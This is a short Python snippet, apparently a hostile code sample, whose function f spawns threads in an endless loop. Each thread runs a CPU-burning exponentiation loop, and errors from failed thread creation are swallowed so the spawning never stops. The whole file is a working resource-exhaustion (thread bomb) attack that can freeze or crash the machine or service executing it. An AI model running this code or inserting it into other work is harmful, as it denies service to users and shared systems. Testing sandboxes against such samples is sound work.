import threading
def burn():
    while True: pow(7, 10_000, 10 ** 300 + 1)
def f(x):
    while True:
        try: threading.Thread(target=burn).start()
        except RuntimeError: pass
